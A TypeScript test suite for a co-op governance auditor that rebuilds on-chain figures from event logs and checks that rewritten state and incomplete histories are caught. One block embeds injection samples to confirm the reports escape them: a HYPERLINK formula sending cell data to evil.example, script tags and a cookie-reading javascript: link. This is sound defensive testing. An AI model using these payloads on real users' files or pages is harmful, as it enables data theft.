/**
 * The auditor's tool against the seeded demo co-op, served over JSON-RPC as `npm start` serves it: it passes on
 * the real history, and fails, naming the exact figure, when the chain's state is rewritten behind the
 * contracts' back or when the history it is fed is truncated, reordered or missing a log.
 */
import { spawn } from "node:child_process";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { access, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

import { expect } from "chai";
import { parse } from "csv-parse/sync";
import { AbiCoder, keccak256, toBeHex, zeroPadValue } from "ethers";
import { network } from "hardhat";
import { JSDOM } from "jsdom";
import { micromark } from "micromark";

import type { Deployment } from "../../lib/deployment.ts";
import { IncompleteHistoryError } from "../../lib/replay/stream.ts";
import { proposalTitle } from "../../lib/format.ts";
import { toJson } from "../../lib/replay/view.ts";
import { voteCost } from "../../lib/rules/quadratic.ts";
import { fetchLogChunks, type LogChunk } from "../../lib/chain/logs.ts";
import { REPORT_FILES, chartSvg } from "../../scripts/audit/report.ts";
import {
  AuditInputError,
  loadCoopAbis,
  runAudit,
  type AuditOptions,
  type AuditResult,
  type LogSource,
} from "../../scripts/audit/run.ts";
import { deployCoop } from "../../deploy/coop.ts";
import { deploymentOf } from "../../deploy/coop.ts";
import { bakery, hardhatAccount } from "../../seeds/bakery.ts";
import { proposalDescription, seedCoop, tallyOf } from "../../seeds/seed.ts";
import { serveOverHttp } from "../helpers/rpc-bridge.ts";
import { storageSlot } from "../helpers/storage-layout.ts";

const ROOT = join(dirname(fileURLToPath(import.meta.url)), "..", "..");
const abi = AbiCoder.defaultAbiCoder();

// The demo co-op, deployed and seeded in-process as test/seeds does, and served over HTTP JSON-RPC to the audit.
const connection = await network.create();
const { ethers } = connection;
const coop = await deployCoop(connection, bakery.config);
await seedCoop(connection, coop, bakery, () => {});
const server = await serveOverHttp(connection.provider);
const RPC = server.url;
const chainId = Number((await ethers.provider.getNetwork()).chainId);
const deployment: Deployment = await deploymentOf(coop, chainId);
const abis = await loadCoopAbis(ROOT);
const work = await mkdtemp(join(tmpdir(), "mutual-audit-"));
const deploymentPath = join(work, `${chainId}.json`);
await writeFile(deploymentPath, JSON.stringify(deployment));

after(async function () {
  await server.close();
  await connection.close();
  await rm(work, { recursive: true, force: true });
});

const audit = (options: Partial<AuditOptions> = {}) =>
  runAudit({ rpcUrl: RPC, deployment, abis, outDir: null, ...options });

/** Runs the command line on the local Node, as `npm run audit` does; resolves with its exit code and output. */
/** `npm run audit` against the test chain and its deployment file, writing the report to `out`. */
function auditInto(out: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return cli(["--rpc", RPC, "--deployment", deploymentPath, "--out", out, "--quiet"]);
}

function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [join(ROOT, "scripts", "audit", "main.ts"), ...args], { cwd: ROOT });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (d) => (stdout += d));
    child.stderr.on("data", (d) => (stderr += d));
    child.on("error", reject);
    child.on("close", (code) => resolve({ code: code ?? -1, stdout, stderr }));
  });
}

/** Runs `body` on a state snapshot of the chain and reverts to it afterwards. */
async function tampered<T>(body: () => Promise<T>): Promise<T> {
  const snapshot = await ethers.provider.send("evm_snapshot", []);
  try {
    return await body();
  } finally {
    await ethers.provider.send("evm_revert", [snapshot]);
  }
}

async function setWord(address: string, slot: string, value: bigint): Promise<void> {
  await ethers.provider.send("hardhat_setStorageAt", [address, slot, zeroPadValue(toBeHex(value), 32)]);
}

const idOf = async (key: string) => {
  const p = bakery.proposals.find((q) => q.key === key)!;
  const created = await coop.governor.queryFilter(coop.governor.filters.ProposalCreated(), coop.deployBlock);
  return created.find((e) => e.args.description === proposalDescription(p))!.args.proposalId;
};

async function rejectionOf(promise: Promise<unknown>): Promise<Error> {
  try {
    await promise;
  } catch (error) {
    return error as Error;
  }
  throw new Error("expected the promise to be rejected");
}

describe("Audit of the seeded demo co-op", function () {
  it("passes: every figure rebuilt from events matches the chain, at the head and at earlier blocks", async function () {
    const result = await audit();
    expect(result.mismatches).to.deep.equal([]);
    expect(result.findings).to.deep.equal([]);
    expect(result.ok).to.equal(true);
    expect(result.checks.head).to.be.greaterThan(300);
    expect(result.historical.unavailable).to.equal(false);
    expect(result.historical.blocks).to.have.length(4);
    expect(result.checks.historical).to.be.greaterThan(100);
    // The ledger and the distributor are checked too: settings, 9 entries and their attestations, validated units,
    // period totals, the finalization, the pot, every contributor's share and claim, the distributor's balance.
    expect(result.checks.patronage).to.be.greaterThan(60);
    expect(result.checks.head).to.be.greaterThan(300 + result.checks.patronage);
  });

  it("rebuilds the demo's patronage: the worked example's units, the finalization, the pot and the three claims", async function () {
    const { view } = await audit();
    const p = view.patronage!;
    const cardOf = async (key: string) =>
      coop.card.cardOf(hardhatAccount(bakery.members.find((m) => m.key === key)!.account));
    const closed = bakery.patronage!.closedPeriod;
    expect(p.entries).to.have.length(closed.length + bakery.patronage!.currentPeriod.length);
    expect(p.entries.filter((e) => e.period === 0n).map((e) => [e.kind, e.units, e.status])).to.deep.equal(
      closed.map((c) => [c.kind, BigInt(c.units), c.attestedBy.length > 0 ? "Validated" : "Pending"]),
    );
    const period0 = p.periods.find((q) => q.period === 0n)!;
    const units = new Map(period0.cards.map((c) => [c.cardId, c.units]));
    expect(units).to.deep.equal(
      new Map([
        [await cardOf("hiro"), 10n],
        [await cardOf("farid"), 20n],
        [await cardOf("carmen"), 40n],
        [await cardOf("dev"), 100n],
        [await cardOf("amara"), 200n],
      ]),
    );
    expect([
      period0.finalized,
      period0.contributors,
      period0.minUnits,
      period0.unitCap,
      period0.cappedSum,
    ]).to.deep.equal([true, 5, 10n, 60n, 190n]);
    expect(p.pots).to.have.length(1);
    const pot = p.pots[0];
    expect([pot.period, pot.token, pot.amount]).to.deep.equal([0n, ethers.ZeroAddress, ethers.parseEther("1")]);
    // ⌊P·min(u, 60)/190⌋, at most M = 6·⌊P·10/190⌋ = 315,789,473,684,210,526 wei.
    const claims = new Map(pot.shares.filter((s) => s.claim !== null).map((s) => [s.cardId, s.claim!.amount]));
    expect(claims).to.deep.equal(
      new Map([
        [await cardOf("hiro"), 52_631_578_947_368_421n],
        [await cardOf("carmen"), 210_526_315_789_473_684n],
        [await cardOf("amara"), 315_789_473_684_210_526n],
      ]),
    );
    expect(pot.claimed).to.equal(52_631_578_947_368_421n + 210_526_315_789_473_684n + 315_789_473_684_210_526n);
    const dev = await cardOf("dev");
    expect(pot.shares.find((s) => s.cardId === dev)!.share).to.equal(315_789_473_684_210_526n);
  });

  it("rebuilds the demo's members, proposals, tallies and deposits as the seed data describes them", async function () {
    const { view } = await audit();
    const people = [...bakery.members, bakery.applicant];
    expect(view.memberCount).to.equal(BigInt(people.length));
    expect(view.members.map((m) => m.address).sort()).to.deep.equal(
      people.map((p) => hardhatAccount(p.account)).sort(),
    );
    expect(view.proposals.map((p) => p.title)).to.deep.equal(bakery.proposals.map((p) => p.title));
    for (const p of bakery.proposals) {
      const rebuilt = view.proposals.find((q) => q.title === p.title)!;
      const expected = tallyOf(p.votes);
      expect(rebuilt.state, p.title).to.equal(p.finalState);
      expect(rebuilt.forVotes, p.title).to.equal(BigInt(expected.forVotes));
      expect(rebuilt.againstVotes, p.title).to.equal(BigInt(expected.againstVotes));
      expect(rebuilt.voters, p.title).to.equal(BigInt(expected.voters));
      expect(rebuilt.creditsSpent, p.title).to.equal(p.votes.reduce((s, v) => s + voteCost(BigInt(v.votes)), 0n));
      if (p.deposit !== undefined) expect(rebuilt.depositFate, p.title).to.equal(p.deposit);
      expect(proposalTitle(rebuilt.description)).to.equal(p.title);
    }
    // The executed payment and the patronage pot left the treasury, and only they: 25 ETH in, 2.5 and 1 ETH out.
    expect(view.treasury.movements.map((m) => ethers.formatEther(m.value))).to.deep.equal(["2.5", "1.0"]);
  });

  it("the command exits 0, prints PASS and writes the report folder (Markdown with an SVG chart, JSON, CSV)", async function () {
    const out = join(work, "report");
    const { code, stdout } = await auditInto(out);
    expect(code, stdout).to.equal(0);
    expect(stdout).to.include("PASS: every figure rebuilt from events matches the chain.");
    for (const file of REPORT_FILES) await access(join(out, file));
    const markdown = await readFile(join(out, "report.md"), "utf8");
    expect(markdown).to.include("**PASS**").and.include("![Participation and tallies per proposal](chart.svg)");
    expect(await readFile(join(out, "chart.svg"), "utf8")).to.match(
      /^<svg [^>]*xmlns="http:\/\/www.w3.org\/2000\/svg"/,
    );
    const model = JSON.parse(await readFile(join(out, "model.json"), "utf8"));
    expect(model.ok).to.equal(true);
    expect(model.model.proposals).to.have.length(bakery.proposals.length);
    const csv = async (file: string) => parse(await readFile(join(out, file), "utf8")) as string[][];
    const votes = await csv("votes.csv");
    const castVotes = bakery.proposals.reduce((n, p) => n + p.votes.length, 0);
    expect(votes).to.have.length(castVotes + 1);
    const ledger = await csv("credit-ledger.csv");
    expect(ledger[0]).to.deep.equal([
      "block",
      "time",
      "transaction",
      "member",
      "kind",
      "change",
      "balance",
      "epoch",
      "proposal",
    ]);
    // Patronage: every entry, and every contributor's share of the pot with what they claimed.
    const contributions = await csv("contributions.csv");
    expect(contributions).to.have.length(model.model.patronage.entries.length + 1);
    expect(contributions[1].slice(0, 13).join(",")).to.match(
      /^1,0,\d+,0x[0-9a-fA-F]{40},maintenance,10,0x[0-9a-f]{64},ipfs:\/\/hearth\/oven-repair,1,1,#\d+,validated,$/,
    );
    const payouts = await csv("payouts.csv");
    expect(payouts[0].join(",")).to.equal("pot,period,token,kind,card,account,units,share,paid,block,transaction");
    expect(payouts.slice(1).map((row) => row[8])).to.have.members([
      "52631578947368421",
      "0",
      "210526315789473684",
      "0",
      "315789473684210526",
    ]);
    expect(markdown).to.include("## Contribution periods").and.include("## Pots and payouts");
    // Every event in chain order, each naming its proposal and member where it has one.
    const events = await csv("events.csv");
    expect(events[0].join(",")).to.equal("block,log,time,transaction,contract,event,proposal,member");
    expect(events).to.have.length(model.model.events + 1);
    const voteRows = events.filter((row) => row[4] === "MutualGovernor" && /^VoteCast(WithParams)?$/.test(row[5]));
    expect(voteRows).to.have.length(castVotes);
    // The same votes as votes.csv, in the same order: transaction, proposal and voter.
    expect(voteRows.map((row) => [row[3], row[6], row[7]])).to.deep.equal(
      votes.slice(1).map((row) => [row[2], row[3], row[4]]),
    );
  });
});

describe("Audit: state rewritten behind the contracts' back is reported", function () {
  it("reports a tally word whose votes for were raised by one, naming proposalTally and proposalVotes, and exits 1", async function () {
    const id = await idOf("flour");
    const slot = keccak256(abi.encode(["uint256", "uint256"], [id, await storageSlot("MutualGovernor", "_tallies")]));
    const governor = deployment.contracts.MutualGovernor;
    await tampered(async () => {
      const word = BigInt(await ethers.provider.getStorage(governor, slot));
      await setWord(governor, slot, word + 1n); // forVotes is the lowest 48 bits
      const head = await ethers.provider.getBlockNumber();
      const result = await audit();
      const forVotes = BigInt(tallyOf(bakery.proposals.find((p) => p.key === "flour")!.votes).forVotes);
      expect(result.ok).to.equal(false);
      expect(result.findings).to.deep.equal([]);
      expect(result.mismatches).to.deep.equal([
        {
          subject: `MutualGovernor.proposalTally(${id}).forVotes`,
          block: head,
          rebuilt: `${forVotes}`,
          chain: `${forVotes + 1n}`,
        },
        {
          subject: `MutualGovernor.proposalVotes(${id}).forVotes`,
          block: head,
          rebuilt: `${forVotes}`,
          chain: `${forVotes + 1n}`,
        },
      ]);
      const { code, stdout } = await auditInto(join(work, "t1"));
      expect(code).to.equal(1);
      expect(stdout).to.include("FAIL: 2 mismatch(es)");
      expect(stdout).to.include(
        `MISMATCH MutualGovernor.proposalTally(${id}).forVotes at block ${head}: rebuilt ${forVotes}, chain ${forVotes + 1n}`,
      );
    });
  });

  it("reports a credit account whose balance was raised by 5, naming accountOf and balanceOf for that member", async function () {
    const amara = hardhatAccount(bakery.members.find((m) => m.key === "amara")!.account);
    const slot = keccak256(abi.encode(["address", "uint256"], [amara, await storageSlot("VoiceCredits", "_accounts")]));
    const credits = deployment.contracts.VoiceCredits;
    await tampered(async () => {
      const word = BigInt(await ethers.provider.getStorage(credits, slot));
      const stored = word & ((1n << 64n) - 1n); // the balance is the lowest 64 bits
      await setWord(credits, slot, word + 5n);
      const head = await ethers.provider.getBlockNumber();
      const now = await coop.credits.balanceOf(amara);
      const result = await audit();
      expect(result.findings).to.deep.equal([]);
      expect(result.mismatches).to.deep.equal([
        { subject: `VoiceCredits.balanceOf(${amara})`, block: head, rebuilt: `${now - 5n}`, chain: `${now}` },
        {
          subject: `VoiceCredits.accountOf(${amara}).balance`,
          block: head,
          rebuilt: `${stored}`,
          chain: `${stored + 5n}`,
        },
      ]);
    });
  });

  it("reports ETH that left the treasury without an executed call: what came in would have shrunk", async function () {
    const timelock = deployment.contracts.TimelockController;
    await tampered(async () => {
      await ethers.provider.send("hardhat_setBalance", [timelock, "0x0"]);
      await ethers.provider.send("evm_mine", []);
      const head = await ethers.provider.getBlockNumber();
      const result = await audit();
      const last = result.historical.blocks.at(-1)!;
      const topUp = ethers.parseEther(bakery.treasuryTopUp.eth);
      expect(result.findings).to.deep.equal([]);
      expect(result.mismatches).to.deep.equal([
        {
          subject: `TimelockController ETH received by block ${head} (balance − opening + paid out), never less than by block ${last}`,
          block: head,
          rebuilt: `at least ${topUp}`,
          chain: `${result.view.treasury.paidOut}`,
        },
      ]);
    });
  });
});

describe("Audit: patronage state rewritten behind the contracts' back is reported", function () {
  const amaraAccount = () => hardhatAccount(bakery.members.find((m) => m.key === "amara")!.account);

  it("reports a card whose validated units were raised by one, naming validatedUnits of that card and period, and exits 1", async function () {
    const ledger = deployment.contracts.ContributionLedger!;
    const card = await coop.card.cardOf(amaraAccount());
    const inner = keccak256(
      abi.encode(["uint256", "uint256"], [0n, await storageSlot("ContributionLedger", "_units")]),
    );
    const slot = keccak256(abi.encode(["uint256", "bytes32"], [card, inner]));
    await tampered(async () => {
      expect(BigInt(await ethers.provider.getStorage(ledger, slot))).to.equal(200n);
      await setWord(ledger, slot, 201n);
      const head = await ethers.provider.getBlockNumber();
      const result = await audit();
      expect(result.findings).to.deep.equal([]);
      // Amara is capped at 60 units: her share, and everyone's, stay as they were; only the units differ.
      expect(result.mismatches).to.deep.equal([
        { subject: `ContributionLedger.validatedUnits(0, ${card})`, block: head, rebuilt: "200", chain: "201" },
      ]);
      const { code, stdout } = await auditInto(join(work, "t2"));
      expect(code).to.equal(1);
      expect(stdout).to.include(
        `MISMATCH ContributionLedger.validatedUnits(0, ${card}) at block ${head}: rebuilt 200, chain 201`,
      );
    });
  });

  it("reports a pot whose claimed amount was raised by one wei, naming pot(1).claimed, and exits 1", async function () {
    const distributor = deployment.contracts.PatronageDistributor!;
    const base = BigInt(
      keccak256(abi.encode(["uint256", "uint256"], [1n, await storageSlot("PatronageDistributor", "_pots")])),
    );
    const slot = toBeHex(base + 1n, 32); // {amount uint128, claimed uint128}: claimed is the high half
    await tampered(async () => {
      const word = BigInt(await ethers.provider.getStorage(distributor, slot));
      const claimed = word >> 128n;
      expect(claimed).to.equal(52_631_578_947_368_421n + 210_526_315_789_473_684n + 315_789_473_684_210_526n);
      await setWord(distributor, slot, word + (1n << 128n));
      const head = await ethers.provider.getBlockNumber();
      const result = await audit();
      expect(result.findings).to.deep.equal([]);
      expect(result.mismatches).to.deep.equal([
        {
          subject: "PatronageDistributor.pot(1).claimed",
          block: head,
          rebuilt: `${claimed}`,
          chain: `${claimed + 1n}`,
        },
      ]);
      const { code, stdout } = await auditInto(join(work, "t3"));
      expect(code).to.equal(1);
      expect(stdout).to.include("FAIL: 1 mismatch(es)");
    });
  });

  it("reports ETH taken from the distributor behind its back: it holds less than the pot less the claims", async function () {
    const distributor = deployment.contracts.PatronageDistributor!;
    await tampered(async () => {
      const balance = await ethers.provider.getBalance(distributor);
      await ethers.provider.send("hardhat_setBalance", [distributor, toBeHex(balance - 1n)]);
      const head = await ethers.provider.getBlockNumber();
      const result = await audit();
      expect(result.mismatches).to.deep.equal([
        {
          subject: "PatronageDistributor ETH balance, at least the pots less claims and sweeps",
          block: head,
          rebuilt: `at least ${balance}`,
          chain: `${balance - 1n}`,
        },
      ]);
    });
  });
});

describe("Audit: hostile text in proposals and votes cannot act in the report", function () {
  // A member's words reach the report through real governance: a proposal's title, and the reasons given with votes.
  const title = `=HYPERLINK("https://evil.example/?d="&A1,"Open") | <script>alert(1)</script> [details](javascript:alert(document.cookie)) ![x](https://evil.example/x.png)`;
  const formulas = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1"];
  const ordinary = ['Fine by me, with "quotes"', "a-b=c; 2+2 @ noon"];

  it("writes every prefix (= + - @ tab CR) in the CSV with a leading quote, every field quoted, and ordinary values as they were", async function () {
    await tampered(async () => {
      const voters = bakery.members.slice(0, formulas.length + ordinary.length);
      const signer = (m: (typeof voters)[number]) => ethers.getSigner(hardhatAccount(m.account));
      const targets = [deployment.contracts.TimelockController];
      const description = `# ${title}\n\nA proposal whose title and votes carry formulas and markup.`;
      const governor = coop.governor.connect(await signer(voters[0]));
      await (await governor.propose(targets, [0n], ["0x"], description)).wait();
      const id = await coop.governor.hashProposal(targets, [0n], ["0x"], ethers.id(description));
      await connection.networkHelpers.time.increaseTo((await coop.governor.proposalSnapshot(id)) + 1n);
      const reasons = [...formulas, ...ordinary];
      for (const [i, reason] of reasons.entries()) {
        await (await coop.governor.connect(await signer(voters[i])).castVoteWithReason(id, 1, reason)).wait();
      }
      const out = join(work, "hostile");
      const { code, stdout } = await auditInto(out);
      expect(code, stdout).to.equal(0);

      const proposals = parse(await readFile(join(out, "proposals.csv"), "utf8"), { columns: true }) as Record<
        string,
        string
      >[];
      expect(proposals.find((p) => p.id === `${id}`)!.title).to.equal(`'${title}`);
      const votesText = await readFile(join(out, "votes.csv"), "utf8");
      const votes = parse(votesText, { columns: true }) as Record<string, string>[];
      const given = votes.filter((v) => v.proposal === `${id}`).map((v) => v.reason);
      expect(given).to.deep.equal([...formulas.map((f) => `'${f}`), ...ordinary]);
      // Every field of every row is quoted, and no cell of any file starts a formula.
      for (const line of votesText.trimEnd().split(/\n(?=")/))
        expect(line).to.match(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/s);
      for (const file of REPORT_FILES.filter((f) => f.endsWith(".csv"))) {
        const rows = parse(await readFile(join(out, file), "utf8")) as string[][];
        for (const cell of rows.flat()) expect(/^[=+@\t\r]|^-(?!\d+$)/.test(cell), `${file}: ${cell}`).to.equal(false);
      }
      // The audit's own numbers are left alone: a vote's credit change is negative, unquoted inside its quotes.
      const ledger = parse(await readFile(join(out, "credit-ledger.csv"), "utf8"), { columns: true }) as Record<
        string,
        string
      >[];
      expect(ledger.filter((c) => c.kind === "vote").map((c) => c.change)).to.include("-1");
      expect(votes.find((v) => v.proposal === `${id}`)!.block).to.match(/^\d+$/);
    });
  });

  it("escapes the title in report.md: one table row of eight cells, no script, link or image even for a renderer that allows HTML", async function () {
    await tampered(async () => {
      const proposer = await ethers.getSigner(hardhatAccount(bakery.members[0].account));
      const targets = [deployment.contracts.TimelockController];
      const description = `# ${title}\n\nbody`;
      await (await coop.governor.connect(proposer).propose(targets, [0n], ["0x"], description)).wait();
      const out = join(work, "hostile-md");
      const { code, stdout } = await auditInto(out);
      expect(code, stdout).to.equal(0);
      const markdown = await readFile(join(out, "report.md"), "utf8");
      const row = markdown.split("\n").find((line) => line.includes("HYPERLINK"))!;
      // Cells are split by unescaped bars only: | # | Title | State | For | Against | Voters | Quorum | Deposit |
      expect(row.split(/(?<!\\)\|/)).to.have.length(10);
      const html = micromark(row, { allowDangerousHtml: true, allowDangerousProtocol: true });
      expect(html).not.to.match(/<script|<img|<a\b/i);
      expect(html).to.include(
        "=HYPERLINK(&quot;https://evil.example/?d=&quot;&amp;A1,&quot;Open&quot;) | &lt;script&gt;alert(1)&lt;/script&gt; [details](javascript:alert(document.cookie)) ![x](https://evil.example/x.png)",
      );
    });
  });

  it("escapes what the chart embeds as XML: a state holding & < > \" ' leaves chart.svg well-formed and reads back as written", async function () {
    const { view } = await audit();
    const hostile = `Active</text><script>alert("1")</script><text a='b'>&amp;`;
    const svg = chartSvg({ ...view, proposals: view.proposals.map((p) => ({ ...p, state: hostile as never })) });
    const doc = new new JSDOM().window.DOMParser().parseFromString(svg, "image/svg+xml");
    expect(doc.getElementsByTagName("parsererror")).to.have.length(0);
    expect(doc.getElementsByTagName("script")).to.have.length(0);
    const states = [...doc.getElementsByTagName("text")].filter((t) => t.textContent === hostile);
    expect(states).to.have.length(view.proposals.length);
  });
});

describe("Audit: a history that is not whole is refused", function () {
  /** The node's history in ranges of 8 blocks, passed through `change`. */
  const altered = (change: (chunks: LogChunk[]) => LogChunk[]): LogSource =>
    async function* (rpc, addresses, from, to) {
      const chunks: LogChunk[] = [];
      for await (const chunk of fetchLogChunks(rpc, addresses, from, to, { initialSpan: 8, maxSpan: 8 }))
        chunks.push(chunk);
      yield* change(chunks);
    };

  it("refuses a history with a range of blocks left out, naming the missing blocks", async function () {
    const error = await rejectionOf(audit({ logSource: altered((c) => [...c.slice(0, 2), ...c.slice(3)]) }));
    expect(error).to.be.instanceOf(IncompleteHistoryError);
    const d = deployment.deployBlock;
    expect(error.message).to.equal(`blocks ${d + 16}..${d + 23} are missing: no range covered them`);
  });

  it("refuses a history that stops before the head", async function () {
    const head = await ethers.provider.getBlockNumber();
    const error = await rejectionOf(audit({ logSource: altered((c) => c.slice(0, -1)) }));
    expect(error).to.be.instanceOf(IncompleteHistoryError);
    expect(error.message).to.match(new RegExp(`^blocks \\d+\\.\\.${head} are missing: the history stops early$`));
  });

  it("refuses a history with two logs swapped", async function () {
    const error = await rejectionOf(
      audit({
        logSource: altered((chunks) =>
          chunks.map((c) =>
            c.logs.length >= 2 && chunks.indexOf(c) === 1
              ? { ...c, logs: [c.logs[1], c.logs[0], ...c.logs.slice(2)] }
              : c,
          ),
        ),
      }),
    );
    expect(error).to.be.instanceOf(IncompleteHistoryError);
    expect(error.message).to.match(/^logs out of order: log \d+ of block \d+ comes after log \d+ of block \d+$/);
  });

  it("refuses ranges delivered out of order", async function () {
    const error = await rejectionOf(audit({ logSource: altered((c) => [c[1], c[0], ...c.slice(2)]) }));
    expect(error).to.be.instanceOf(IncompleteHistoryError);
    expect(error.message).to.equal(
      `blocks ${deployment.deployBlock}..${deployment.deployBlock + 7} are missing: no range covered them`,
    );
  });

  it("fails, naming the tally, when one vote for is dropped from an otherwise whole history", async function () {
    const voteTopics = [
      ethers.id("VoteCast(address,uint256,uint8,uint256,string)"),
      ethers.id("VoteCastWithParams(address,uint256,uint8,uint256,string,bytes)"),
    ];
    let dropped: { proposal: bigint; votes: bigint } | null = null;
    const result = await audit({
      logSource: altered((chunks) =>
        chunks.map((c) => {
          if (dropped !== null) return c;
          const i = c.logs.findIndex(
            (l) => voteTopics.includes(l.topics[0]) && abi.decode(["uint256", "uint8"], l.data.slice(0, 130))[1] === 1n,
          );
          if (i < 0) return c;
          const [proposal, , votes] = abi.decode(["uint256", "uint8", "uint256"], c.logs[i].data.slice(0, 194));
          dropped = { proposal, votes };
          return { ...c, logs: c.logs.filter((_, j) => j !== i) };
        }),
      ),
    });
    const { proposal, votes } = dropped!;
    const onChain = (await coop.governor.proposalTally(proposal)).forVotes;
    expect(result.ok).to.equal(false);
    expect(result.mismatches).to.deep.include({
      subject: `MutualGovernor.proposalTally(${proposal}).forVotes`,
      block: await ethers.provider.getBlockNumber(),
      rebuilt: `${onChain - votes}`,
      chain: `${onChain}`,
    });
  });
});

describe("Audit through a public endpoint's limits: rate limits and an eth_getLogs range limit", function () {
  /**
   * A real HTTP proxy in front of the test chain, as a public provider behaves: it refuses eth_getLogs over more
   * than 10 blocks with `rangeError`, and answers the first request and the first eth_getLogs with HTTP 429 and a
   * Retry-After of one second. It counts what it was asked.
   */
  async function startProvider(rangeError: { code: number; message: string }) {
    const getLogs: { width: number; refused: boolean }[] = [];
    let requests = 0;
    let limited = 0;
    let firstGetLogs = true;
    const proxy = createServer((req, res) => {
      let body = "";
      req.on("data", (chunk) => (body += chunk));
      req.on("end", async () => {
        requests++;
        const call = JSON.parse(body) as {
          id: number;
          method: string;
          params: [{ fromBlock: string; toBlock: string }];
        };
        const rateLimited = requests === 1 || (call.method === "eth_getLogs" && firstGetLogs);
        if (call.method === "eth_getLogs") firstGetLogs = false;
        if (rateLimited) {
          limited++;
          res
            .writeHead(429, { "content-type": "application/json", "retry-after": "1" })
            .end(JSON.stringify({ jsonrpc: "2.0", id: call.id, error: { code: 429, message: "Too Many Requests" } }));
          return;
        }
        if (call.method === "eth_getLogs") {
          const width = Number(call.params[0].toBlock) - Number(call.params[0].fromBlock) + 1;
          getLogs.push({ width, refused: width > 10 });
          if (width > 10) {
            res
              .writeHead(200, { "content-type": "application/json" })
              .end(JSON.stringify({ jsonrpc: "2.0", id: call.id, error: rangeError }));
            return;
          }
        }
        const answer = await fetch(RPC, { method: "POST", headers: { "content-type": "application/json" }, body });
        res.writeHead(answer.status, { "content-type": "application/json" }).end(await answer.text());
      });
    });
    await new Promise<void>((resolve) => proxy.listen(0, "127.0.0.1", resolve));
    const url = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
    return {
      url,
      getLogs,
      counts: () => ({ requests, limited }),
      close: () => new Promise<void>((resolve) => proxy.close(() => resolve())),
    };
  }

  /** What the audit concluded, as JSON: the same whichever way the chain was read. */
  const conclusion = (r: AuditResult) =>
    toJson({
      ok: r.ok,
      head: r.head,
      checks: r.checks,
      historical: r.historical,
      mismatches: r.mismatches,
      findings: r.findings,
      treasury: r.treasury,
      view: r.view,
    });

  it("learns the 10-block limit a refusal names from one refusal, is refused no more, waits out each 429, and concludes as without the proxy", async function () {
    const provider = await startProvider({ code: -32600, message: "exceed maximum block range: 10" });
    try {
      const direct = await audit();
      const proxied = await audit({ rpcUrl: provider.url });
      expect(conclusion(proxied)).to.equal(conclusion(direct));
      const blocks = direct.head.blockNumber - deployment.deployBlock + 1;
      // One refusal (the first range), then ranges of 10 to the head, none refused.
      expect(provider.getLogs.filter((r) => r.refused)).to.have.length(1);
      expect(provider.getLogs[0].refused).to.equal(true);
      expect(provider.getLogs.slice(1).every((r) => !r.refused)).to.equal(true);
      expect(provider.getLogs).to.have.length(1 + Math.ceil(blocks / 10));
      // The chain-id probe and the first eth_getLogs were rate-limited once each, and asked again after the wait.
      expect(provider.counts().limited).to.equal(2);
      expect(proxied.rpcRetries).to.equal(direct.rpcRetries + 1);
    } finally {
      await provider.close();
    }
  });

  it("closes in on a limit a refusal does not name, by halving, then is refused no more, and concludes as without the proxy", async function () {
    const provider = await startProvider({ code: -32602, message: "block range is too wide" });
    try {
      const direct = await audit();
      const proxied = await audit({ rpcUrl: provider.url });
      expect(conclusion(proxied)).to.equal(conclusion(direct));
      const refusals = provider.getLogs.map((r, i) => (r.refused ? i : -1)).filter((i) => i >= 0);
      const last = refusals.at(-1)!;
      // A handful of refusals while closing in (halving from the whole history, then between 10 and 11 wide)…
      expect(refusals.length).to.be.within(2, Math.ceil(Math.log2(provider.getLogs[0].width)) + 3);
      // …and from then on none refused: once a range of 10 is accepted, every range is 10 (the last one up to the head).
      const after = provider.getLogs.slice(last + 1);
      expect(after.every((r) => !r.refused && r.width <= 10)).to.equal(true);
      const learnt = after.slice(
        after.findIndex((r) => r.width === 10),
        -1,
      );
      expect(learnt.length).to.be.greaterThan(5);
      expect(learnt.every((r) => r.width === 10)).to.equal(true);
    } finally {
      await provider.close();
    }
  });
});

describe("Audit: bad input gets a specific error", function () {
  it("refuses a deployment file for another chain, naming both chains", async function () {
    const error = await rejectionOf(audit({ deployment: { ...deployment, chainId: 11155111 } }));
    expect(error).to.be.instanceOf(AuditInputError);
    expect(error.message).to.equal(
      `the deployment file describes a co-op on chain 11155111, but ${RPC} serves chain ${chainId}`,
    );
  });

  it("refuses a deployment whose addresses hold no contract", async function () {
    const nobody = "0x000000000000000000000000000000000000dEaD";
    const error = await rejectionOf(
      audit({ deployment: { ...deployment, contracts: { ...deployment.contracts, VoiceCredits: nobody } } }),
    );
    expect(error.message).to.match(
      new RegExp(`^no contract at ${nobody} \\(VoiceCredits\\) on chain ${chainId} at block \\d+$`),
    );
  });

  it("the command exits 2 on an unreachable node, a missing argument, and a file for another chain", async function () {
    const other = join(work, "other.json");
    await writeFile(other, JSON.stringify({ ...deployment, chainId: 1 }));
    const unreachable = await cli(["--rpc", "http://127.0.0.1:9", "--deployment", deploymentPath, "--quiet"]);
    expect(unreachable.code).to.equal(2);
    expect(unreachable.stderr).to.match(/^audit: cannot reach a JSON-RPC node at http:\/\/127\.0\.0\.1:9\//);
    const missing = await cli(["--deployment", deploymentPath]);
    expect(missing.code).to.equal(2);
    expect(missing.stderr).to.include("audit: --rpc is required");
    const wrongChain = await cli(["--rpc", RPC, "--deployment", other, "--quiet"]);
    expect(wrongChain.code).to.equal(2);
    expect(wrongChain.stderr).to.include(
      `the deployment file describes a co-op on chain 1, but ${RPC}/ serves chain ${chainId}`,
    );
  });
});
